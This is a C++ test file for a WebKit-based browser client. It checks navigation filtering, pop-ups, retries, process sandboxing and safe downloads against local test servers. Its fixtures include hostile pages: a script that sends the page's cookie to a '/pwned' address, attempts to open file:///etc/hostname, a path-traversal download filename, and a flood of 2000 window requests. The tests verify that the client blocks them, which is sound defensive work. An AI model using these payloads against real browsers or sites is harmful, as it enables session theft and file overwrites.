// SPDX-License-Identifier: MIT
// The window on the real browser engine against a portal on loopback.

#include <glib-object.h>
#include <gtest/gtest.h>
#include <wx/toplevel.h>

#include <algorithm>
#include <csignal>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <unistd.h>

#include <sstream>
#include <string>

#include "Main.h"
#include "addresses.h"
#include "event_loop.h"
#include "loopback_http_server.h"
#include "window_fixture.h"
#include "wx_text.h"

#include <webkit2/webkit2.h>

namespace kwirl::test {
namespace {

std::string pathOf(const std::string& head) {
    const auto start = head.find(' ') + 1;
    return head.substr(start, head.find(' ', start) - start);
}

// Pages of a small portal, chosen by path.
std::string portalPage(const std::string& head) {
    const std::string path = pathOf(head);
    if (path.find("name=framed") != std::string::npos) {
        return htmlReply(
            "<html><body>outer<iframe name='inner' src='/index.php?name=puzzle3&op=game&level=2'>"
            "</iframe></body></html>");
    }
    if (path.find("name=blanklink") != std::string::npos) {
        return htmlReply(
            "<html><body><a id='l' target='_blank' href='/index.php?name=awards'>awards</a>"
            "<script>document.getElementById('l').click();</script></body></html>");
    }
    if (path.find("name=pathnamedfile") != std::string::npos) {  // a file a hostile server names as a path
        return "HTTP/1.0 200 OK\r\nContent-Type: image/png\r\nContent-Length: 4\r\n"
               "Content-Disposition: attachment; filename=\"../../tmp/kwirl-engine-test.png\"\r\n\r\nPNG!";
    }
    if (path.find("name=cutfile") != std::string::npos) {  // a file cut short: 4 of the 8 bytes announced
        return "HTTP/1.0 200 OK\r\nContent-Type: image/png\r\nContent-Length: 8\r\n"
               "Content-Disposition: attachment; filename=\"cut.png\"\r\n\r\nPNG!";
    }
    if (path.find("name=hostileframes") != std::string::npos) {  // frames of another site, one sandboxed
        const std::string frame = "http://localhost:" + path.substr(path.rfind('=') + 1) + "/frame";
        return htmlReply(
            "<html><body><script>document.cookie = 'portal_login=SECRET-SESSION-123';</script>"
            "<iframe src='" +
            frame +
            "?plain'></iframe>"
            "<iframe sandbox='allow-scripts' src='" +
            frame + "?sandboxed'></iframe></body></html>");
    }
    if (path.find("name=flood") != std::string::npos) {  // a page asking for thousands of windows at once
        return htmlReply(
            "<html><body><script>var handlers = (window.webkit && window.webkit.messageHandlers) || {};"
            "for (var i = 0; i < 2000; ++i) {"
            " try { handlers.kwirlNewWindow.postMessage('javascript:document.title=' + i); } catch (e) {}"
            " try { window.open('javascript:document.title=' + i); } catch (e) {} }"
            "new Image().src = '/index.php?name=flooded';</script></body></html>");
    }
    if (path.find("name=wholefile") != std::string::npos) {
        return "HTTP/1.0 200 OK\r\nContent-Type: image/png\r\nContent-Length: 8\r\n"
               "Content-Disposition: attachment; filename=\"whole.png\"\r\n\r\nPNG!PNG!";
    }
    if (path.find("name=popup") != std::string::npos) {
        return htmlReply("<html><body><script>window.open('/index.php?name=champday');</script></body></html>");
    }
    // Enough text that loading takes a few progress steps.
    return htmlReply("<html><body><h1>" + path + "</h1>" + std::string(200000, ' ') + "</body></html>");
}

// A page of another site, framed by a portal page: it tries every way a page
// had to reach the client's own scripts, to move the whole view, and to run
// its script in the portal's page (where it would read the portal's cookie),
// each time it is shown; then it says it is done.
std::string hostileFrame(const std::string& head) {
    if (pathOf(head).find("/frame") != 0) return htmlReply("<html><body>elsewhere</body></html>");
    const std::string game = baseAddress() + "?name=puzzle3&op=game&level=2";
    return htmlReply(
        "<html><body><input><script>"
        "var home = location.protocol + '//' + location.host, sandboxed = location.search === '?sandboxed';"
        "var handlers = (window.webkit && window.webkit.messageHandlers) || {};"
        "function post(name, value) { try { handlers[name].postMessage(value); } catch (e) {} }"
        "window.addEventListener('pageshow', function () {"
        " var steal = \"javascript:location='\" + home + \"/pwned?cookie='+encodeURIComponent(document.cookie)\";"
        " [steal, 'file:///etc/hostname', 'data:text/html,moved', home + '/moved'].forEach(function (a) {"
        "  post('kwirlNewWindow', a); });"
        " post('kwirlFrameShown', '" +
        game +
        "');"
        " post('kwirlTextFocus', true);"
        " try { window.open(steal); } catch (e) {}"
        " if (sandboxed) { try { window.open(home + '/moved'); top.location = home + '/moved'; } catch (e) {} }"
        " new Image().src = home + '/done' + location.search + '&' + Date.now();"
        "});</script></body></html>");
}

// Processes of the engine's `program` started by this process (through bubblewrap).
std::vector<int> engineProcessesOf(int ancestor, const char* program = "WebKitWebProcess") {
    namespace fs = std::filesystem;
    const auto parentOf = [](int pid) {
        std::ifstream stat("/proc/" + std::to_string(pid) + "/stat");
        std::string line;
        std::getline(stat, line);
        const auto close = line.rfind(')');
        if (close == std::string::npos) return 0;
        std::istringstream rest(line.substr(close + 2));
        std::string state;
        int parent = 0;
        rest >> state >> parent;
        return parent;
    };
    std::vector<int> found;
    for (const auto& entry : fs::directory_iterator("/proc")) {
        const std::string name = entry.path().filename();
        if (name.find_first_not_of("0123456789") != std::string::npos) continue;
        std::ifstream cmdline(entry.path() / "cmdline");
        std::string command((std::istreambuf_iterator<char>(cmdline)), std::istreambuf_iterator<char>());
        if (command.find(program) == std::string::npos || command.find("bwrap") != std::string::npos) continue;
        for (int pid = std::stoi(name); pid > 1; pid = parentOf(pid)) {
            if (pid == ancestor) {
                found.push_back(std::stoi(name));
                break;
            }
        }
    }
    return found;
}

// The engine's view in the window: the one widget inside the browser's window.
WebKitWebView* viewOf(TFrm& window) {
    GList* children = gtk_container_get_children(GTK_CONTAINER(window.CBW->Window()->GetHandle()));
    auto* view = WEBKIT_WEB_VIEW(children->data);
    g_list_free(children);
    return view;
}

class EngineTest : public ::testing::Test {
protected:
    void SetUp() override {
        server = std::make_unique<LoopbackServer>(testPortalPort(), httpResponder(portalPage));
        frame = new TFrm(nullptr);
        // Record every navigation the engine raises, then let the window's filter decide.
        auto filter = frame->CBW->OnBeforeNavigate2;
        frame->CBW->OnBeforeNavigate2 = [this, filter](TCppWebBrowser* sender, void* pDisp, const std::string& url,
                                                       std::int32_t flags, const std::string& target,
                                                       const std::string& post, const std::string& headers,
                                                       std::int16_t& cancel) {
            filter(sender, pDisp, url, flags, target, post, headers, cancel);
            navigations.push_back(url + (cancel ? " (cancelled)" : ""));
        };
        auto progress = frame->CBW->OnProgressChange;
        frame->CBW->OnProgressChange = [this, progress](TCppWebBrowser* sender, std::int32_t value, std::int32_t most) {
            progress(sender, value, most);
            leftBar.push_back(frame->PB->Position());
            rightBar.push_back(frame->PBC->Position());
        };
        frame->Show();
        ASSERT_TRUE(runLoopUntil([&] { return served(startPageAddress()); }, 20000));
        ASSERT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == startPageAddress(); }, 20000));
    }
    void TearDown() override {
        destroyWindow(frame);
        server.reset();
    }

    bool served(const std::string& address) const {
        const auto path = address.substr(address.find('/', std::string("http://").size()));
        for (const auto& line : server->requestLines()) {
            if (line == "GET " + path + " HTTP/1.1") return true;
        }
        return false;
    }
    bool navigated(const std::string& address) const {
        return std::find(navigations.begin(), navigations.end(), address) != navigations.end();
    }
    std::vector<std::string> captions() const { return numberCaptions(*frame); }

    std::unique_ptr<LoopbackServer> server;
    TFrm* frame = nullptr;
    std::vector<std::string> navigations;
    std::vector<std::int32_t> leftBar;
    std::vector<std::int32_t> rightBar;
};

TEST_F(EngineTest, StartUpOpensBlankPageThenStartPage) {
    ASSERT_GE(navigations.size(), 2u);
    EXPECT_EQ(navigations[0], "about:blank");
    EXPECT_EQ(navigations[1], startPageAddress());
    EXPECT_EQ(captions(), (std::vector<std::string>{"1", "2", "3", "4", "5", "6"}));
    EXPECT_TRUE(runLoopUntil([&] { return frame->IsMaximized(); }, 5000));
}

TEST_F(EngineTest, TheFilterSeesAFramesNavigation) {
    frame->CBW->Navigate(pageAddress("framed"));
    const auto inner = baseAddress() + "?name=puzzle3&op=game&level=2";
    ASSERT_TRUE(runLoopUntil([&] { return navigated(inner); }, 20000));
    EXPECT_EQ(captions(), (std::vector<std::string>{"4", "16", "36", "64", "100", "144"}));
}

TEST_F(EngineTest, ALinkToANewWindowLoadsInTheSameView) {
    frame->CBW->Navigate(pageAddress("blanklink"));
    ASSERT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == pageAddress("awards"); }, 20000));
    EXPECT_EQ(wxTopLevelWindows.GetCount(), 1u);
}

TEST_F(EngineTest, AScriptedPopUpLoadsInTheSameView) {
    frame->CBW->Navigate(pageAddress("popup"));
    ASSERT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == pageAddress("champday"); }, 20000));
    EXPECT_EQ(wxTopLevelWindows.GetCount(), 1u);
}

TEST_F(EngineTest, BothBarsFillDuringALoadAndEmptyWhenItIsDone) {
    leftBar.clear();
    rightBar.clear();
    frame->CBW->Navigate(pageAddress("awards"));
    ASSERT_TRUE(runLoopUntil([&] { return !leftBar.empty() && leftBar.back() == -10; }, 20000));
    EXPECT_GT(*std::max_element(leftBar.begin(), leftBar.end()), 0);
    EXPECT_GT(*std::max_element(rightBar.begin(), rightBar.end()), 0);
    EXPECT_EQ(frame->PBC->Position(), -5);
}

TEST_F(EngineTest, TheAddressShownIsThePageCommittedNotTheOneBeingLoaded) {
    frame->CBW->Navigate(pageAddress("awards"));
    EXPECT_EQ(frame->CBW->LocationURL(), startPageAddress());  // asked for, not yet shown
    ASSERT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == pageAddress("awards"); }, 20000));
    // A move within the page changes the address shown without a load.
    frame->CBW->Navigate(pageAddress("awards") + "#winner");
    EXPECT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == pageAddress("awards") + "#winner"; }, 20000));
}

// The engine asks the window before each navigation; a filter that raises
// instead of answering leaves the navigation cancelled.
TEST_F(EngineTest, AFilterThatFailsLeavesTheNavigationCancelled) {
    const auto filter = frame->CBW->OnBeforeNavigate2;
    int asked = 0;
    frame->CBW->OnBeforeNavigate2 = [&](TCppWebBrowser*, void*, const std::string&, std::int32_t, const std::string&,
                                        const std::string&, const std::string&, std::int16_t& cancel) {
        ++asked;
        cancel = 0;
        throw std::runtime_error("the filter failed");
    };
    frame->CBW->Navigate(pageAddress("awards"));
    ASSERT_TRUE(runLoopUntil([&] { return asked == 1; }, 20000));
    frame->CBW->OnBeforeNavigate2 = filter;
    frame->CBW->Navigate(pageAddress("champday"));
    ASSERT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == pageAddress("champday"); }, 20000));
    EXPECT_FALSE(served(pageAddress("awards")));
}

// Frames of another site (one of them sandboxed to scripts alone) try, each
// time they are shown, every way in: the client's own scripts' messages, a
// script address as a new window, moving the whole view. None reaches the
// portal's page or its cookie, the view moves only where the filter let it,
// the buttons keep the captions of the page shown, and Alt+Left goes back.
TEST_F(EngineTest, FramesOfAnotherSiteReachNothingOfTheClients) {
    LoopbackServer other(0, httpResponder(hostileFrame));
    const auto done = [&] {
        const auto lines = other.requestLines();
        return std::count_if(lines.begin(), lines.end(),
                             [](const std::string& l) { return l.find("/done") != l.npos; });
    };
    const std::string framing = pageAddress("hostileframes") + "&port=" + std::to_string(other.port());
    frame->CBW->Navigate(framing);
    ASSERT_TRUE(runLoopUntil([&] { return done() == 2; }, 20000));
    frame->CBW->Navigate(pageAddress("awards"));
    ASSERT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == pageAddress("awards"); }, 20000));
    frame->CBW->GoBack();  // the framing page and its frames from the history: shown again
    ASSERT_TRUE(runLoopUntil([&] { return done() == 4; }, 20000));
    EXPECT_EQ(frame->CBW->LocationURL(), framing);
    EXPECT_EQ(captions(), (std::vector<std::string>{"1", "2", "3", "4", "5", "6"}));

    ASSERT_EQ(std::system("xdotool key alt+Left"), 0);
    EXPECT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == startPageAddress(); }, 20000));
    for (const auto& line : other.requestLines()) {
        EXPECT_EQ(line.find("SECRET"), line.npos) << line;
        EXPECT_EQ(line.find("/pwned"), line.npos) << line;
        EXPECT_EQ(line.find("/moved"), line.npos) << line;
    }
    for (const auto& navigation : navigations) {
        EXPECT_TRUE(navigation.rfind("http:", 0) == 0 || navigation == "about:blank") << navigation;
    }
}

// A page floods the view with requests for new windows at script addresses,
// and its process ends: the client's page stands for the portal's page as it
// was shown, and loads that page again by itself.
TEST_F(EngineTest, AfterAFloodOfScriptWindowsTheEndedPageComesBackAsThePortalsPage) {
    frame->CBW->Navigate(pageAddress("flood"));
    ASSERT_TRUE(runLoopUntil([&] { return served(pageAddress("flooded")); }, 20000));
    ASSERT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == pageAddress("flood"); }, 20000));
    for (const int pid : engineProcessesOf(getpid())) kill(pid, SIGKILL);
    const auto requests = [&] {
        const auto lines = server->requestLines();
        return std::count(lines.begin(), lines.end(), "GET /index.php?name=flood HTTP/1.1");
    };
    EXPECT_TRUE(runLoopUntil([&] { return requests() == 2; }, 20000));
    EXPECT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == pageAddress("flood"); }, 20000));
}

// A page that cannot be loaded: the client's page stands in for it in its own
// place in the history, and new attempts load it there again, so Back leads to
// the page before it however often it was tried. An attempt that is stopped
// does not stop the attempts.
TEST_F(EngineTest, APageThatCannotBeLoadedIsTriedAgainInItsOwnPlace) {
    WebKitWebView* view = viewOf(*frame);
    int failures = 0;
    const auto onFailed = +[](WebKitWebView*, WebKitLoadEvent, gchar*, GError*, gpointer count) {
        ++*static_cast<int*>(count);
        return FALSE;
    };
    const gulong failed = g_signal_connect(view, "load-failed", G_CALLBACK(onFailed), &failures);
    const auto shows = [&](const char* title) {
        const gchar* shown = webkit_web_view_get_title(view);
        return shown && std::string(shown) == title;
    };
    const auto pagesBack = [&] {
        GList* back = webkit_back_forward_list_get_back_list(webkit_web_view_get_back_forward_list(view));
        const guint count = g_list_length(back);
        g_list_free(back);
        return count;
    };
    const std::uint16_t port = unusedLoopbackPort();
    const std::string away = "http://127.0.0.1:" + std::to_string(port) + "/index.php?name=awards";
    frame->CBW->Navigate(away);
    ASSERT_TRUE(runLoopUntil([&] { return shows("The portal cannot be reached"); }, 20000));
    const auto pagesBefore = pagesBack();

    // A portal that takes requests and never answers: an attempt stays in flight.
    auto silent = std::make_unique<LoopbackServer>(port, [](LoopbackServer& portal, int fd) {
        const std::string head = readRequestHead(fd);
        if (!head.empty()) portal.recordRequestLine(head.substr(0, head.find("\r\n")));
        readRequestHead(fd);  // until the client gives up
    });
    frame->CBW->Reload();
    ASSERT_TRUE(runLoopUntil([&] { return silent->requestLines().size() == 1; }, 20000));
    const int failedBefore = failures;
    frame->CBW->Stop();
    ASSERT_TRUE(runLoopUntil([&] { return failures > failedBefore; }, 20000));
    frame->CBW->Reload();
    ASSERT_TRUE(runLoopUntil([&] { return silent->requestLines().size() == 2; }, 20000));
    silent.reset();  // the attempt ends without an answer
    ASSERT_TRUE(runLoopUntil([&] { return shows("The page could not be loaded"); }, 20000));
    EXPECT_EQ(pagesBack(), pagesBefore);

    LoopbackServer back(port, httpResponder(portalPage));
    frame->CBW->Reload();
    ASSERT_TRUE(runLoopUntil([&] { return !back.requestLines().empty() && !webkit_web_view_is_loading(view); }, 20000));
    EXPECT_EQ(frame->CBW->LocationURL(), away);
    // Each attempt passed the window's filter: the first load and three attempts.
    EXPECT_EQ(std::count(navigations.begin(), navigations.end(), away), 4);
    frame->CBW->GoBack();
    EXPECT_TRUE(runLoopUntil([&] { return frame->CBW->LocationURL() == startPageAddress(); }, 20000));

    // A page that is not tried again by itself: a press of our page's button
    // (it has the keyboard) asks for it again, through the filter.
    const std::string nowhere = "kwirl-nowhere:page";
    frame->CBW->Navigate(nowhere);
    ASSERT_TRUE(runLoopUntil([&] { return shows("The page cannot be shown here"); }, 20000));
    ASSERT_EQ(std::count(navigations.begin(), navigations.end(), nowhere), 1);
    ASSERT_EQ(std::system("xdotool key Return"), 0);
    EXPECT_TRUE(runLoopUntil([&] { return std::count(navigations.begin(), navigations.end(), nowhere) == 2; }, 20000));
    g_signal_handler_disconnect(view, failed);
}

std::string namespaceOf(int pid, const char* kind) {
    return std::filesystem::read_symlink("/proc/" + std::to_string(pid) + "/ns/" + kind).string();
}

TEST_F(EngineTest, WebContentRunsInTheEnginesSandbox) {
    if (std::system("bwrap --unshare-all --die-with-parent --ro-bind / / true >/dev/null 2>&1") != 0) {
        GTEST_SKIP() << "this system cannot sandbox (bubblewrap cannot make namespaces); the client says so on stderr";
    }
    const auto webProcesses = engineProcessesOf(getpid());
    ASSERT_FALSE(webProcesses.empty());
    for (const int pid : webProcesses) {
        for (const char* kind : {"mnt", "pid", "net"}) {
            EXPECT_NE(namespaceOf(pid, kind), namespaceOf(getpid(), kind)) << "web process " << pid << ": " << kind;
        }
    }
    // ... and pages still work there: the start page loaded (SetUp) and a game page does too.
    frame->CBW->Navigate(pageAddress("puzzle3") + "&op=game&level=1");
    EXPECT_TRUE(runLoopUntil([&] { return served(pageAddress("puzzle3") + "&op=game&level=1"); }, 20000));
}

// A file whose suggested name climbs out of folders ("../../name"): the
// window is asked where to save it under the plain name, and the file is
// written there and nowhere else.
TEST_F(EngineTest, AFileNamedAsAPathIsOfferedUnderItsPlainName) {
    const auto chosen = std::filesystem::temp_directory_path() / "kwirl-engine-test-chosen.png";
    const char* climbed = "/tmp/kwirl-engine-test.png";
    std::filesystem::remove(chosen);
    std::filesystem::remove(climbed);
    std::string suggested;
    frame->CBW->OnFileDownload = [&](TCppWebBrowser*, const std::string& name, std::string& path, bool& replace) {
        suggested = name;
        path = chosen.string();
        replace = false;
    };
    bool ended = false;
    TDownloadOutcome outcome{TDownloadOutcome::End::Failed, "(none told)"};
    frame->CBW->OnDownloadComplete = [&](TCppWebBrowser*, const std::string&, const TDownloadOutcome& told) {
        ended = true;
        outcome = told;
    };
    frame->CBW->Navigate(pageAddress("pathnamedfile"));
    ASSERT_TRUE(runLoopUntil([&] { return ended; }, 20000));
    EXPECT_EQ(suggested, "kwirl-engine-test.png");
    EXPECT_EQ(outcome.end, TDownloadOutcome::End::Saved) << outcome.failure;
    std::ifstream saved(chosen);
    EXPECT_EQ(std::string(std::istreambuf_iterator<char>(saved), std::istreambuf_iterator<char>()), "PNG!");
    EXPECT_FALSE(std::filesystem::exists(climbed));
    std::filesystem::remove(chosen);
}

// A file saved where the person chose: whole, or, when the server cuts it
// short (fewer bytes than it announced, which the engine ends as if whole),
// told as a failure with nothing broken left behind, and a file it was to
// replace kept as it was. Nothing else is left in the folder.
TEST_F(EngineTest, AFileIsSavedWholeOrNotAtAllAndAFileItReplacesIsKeptUntilThen) {
    struct Case {
        const char* page;
        const char* before;  // the file already there, if any
        const char* after;   // the file there afterwards, if any
        const char* failure;
        const char* folder = nullptr;  // somewhere else than a new folder of the test's
        bool dropped = false;          // the person chose no place
    };
    int asked = 0;
    for (const Case& c : {Case{"cutfile", nullptr, nullptr, "4 of 8 bytes"},
                          Case{"cutfile", "old!", "old!", "The file that was there is kept as it was."},
                          Case{"wholefile", "old!", "PNG!PNG!", ""}, Case{"wholefile", nullptr, "PNG!PNG!", ""},
                          Case{"wholefile", "old!", "old!", "", nullptr, true},
                          // The cause the system gave, not a guess (the tests run as root: a
                          // system folder refuses even it).
                          Case{"wholefile", nullptr, nullptr, "permission denied", "/sys"},
                          Case{"wholefile", nullptr, nullptr, "the folder does not exist", "/nowhere/at/all"}}) {
        SCOPED_TRACE(std::string(c.page) + (c.before ? " over a file" : ""));
        const auto folder = c.folder ? std::filesystem::path(c.folder)
                                     : std::filesystem::temp_directory_path() / "kwirl-engine-test-saved";
        if (!c.folder) {
            std::filesystem::remove_all(folder);
            std::filesystem::create_directory(folder);
        }
        const auto path = folder / "picture.png";
        if (c.before) std::ofstream(path) << c.before;
        frame->CBW->OnFileDownload = [&](TCppWebBrowser*, const std::string&, std::string& chosen, bool& replace) {
            if (!c.dropped) chosen = path.string();
            replace = c.before != nullptr;
        };
        bool ended = false;
        TDownloadOutcome outcome{TDownloadOutcome::End::Dropped, "(none told)"};
        frame->CBW->OnDownloadComplete = [&](TCppWebBrowser*, const std::string&, const TDownloadOutcome& told) {
            ended = true;
            outcome = told;
        };
        frame->CBW->Navigate(pageAddress(c.page) + "&case=" + std::to_string(++asked));  // a new address each time
        ASSERT_TRUE(runLoopUntil([&] { return ended; }, 20000));
        if (c.dropped) {
            EXPECT_EQ(outcome.end, TDownloadOutcome::End::Dropped) << outcome.failure;
        } else if (*c.failure) {
            EXPECT_EQ(outcome.end, TDownloadOutcome::End::Failed);
            EXPECT_NE(outcome.failure.find(c.failure), std::string::npos) << outcome.failure;
        } else {
            EXPECT_EQ(outcome.end, TDownloadOutcome::End::Saved) << outcome.failure;
        }
        if (c.folder) {
            EXPECT_FALSE(std::filesystem::exists(path));
            continue;
        }
        std::vector<std::string> left;
        for (const auto& entry : std::filesystem::directory_iterator(folder)) left.push_back(entry.path().filename());
        EXPECT_EQ(left, c.after ? std::vector<std::string>{"picture.png"} : std::vector<std::string>{});
        if (c.after) {
            std::ifstream saved(path);
            EXPECT_EQ(std::string(std::istreambuf_iterator<char>(saved), {}), c.after);
        }
        std::filesystem::remove_all(folder);
    }
}

}  // namespace
}  // namespace kwirl::test
